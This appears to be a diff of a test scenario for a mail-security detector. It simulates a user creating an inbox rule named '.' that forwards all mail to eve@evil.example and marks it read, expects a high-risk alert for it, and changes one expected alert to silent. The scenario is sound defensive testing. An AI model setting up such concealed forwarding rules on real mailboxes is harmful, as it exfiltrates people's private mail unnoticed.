@@ -7,4 +7,4 @@ person cyd "Cyd Clark"
 
 mon 09:00 amy makes rule "." forward to eve@evil.example and mark read
 expect forward-everything amy risk 95 says "\".\" sends every mail of amy@fabrikam.com to eve@evil.example, outside your 2 accepted domains, and marks it as read."
-expect obfuscated-name amy risk 55
+silent obfuscated-name
